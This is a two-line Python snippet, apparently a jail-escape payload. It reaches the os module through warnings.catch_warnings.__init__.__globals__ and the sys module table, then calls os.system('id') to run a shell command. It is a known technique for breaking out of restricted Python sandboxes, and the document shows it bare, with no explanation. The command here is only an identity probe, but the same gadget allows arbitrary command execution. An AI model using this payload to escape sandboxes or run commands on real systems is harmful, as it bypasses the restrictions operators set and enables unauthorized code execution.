import warnings
warnings.catch_warnings.__init__.__globals__["sys"].modules["os"].system("id")
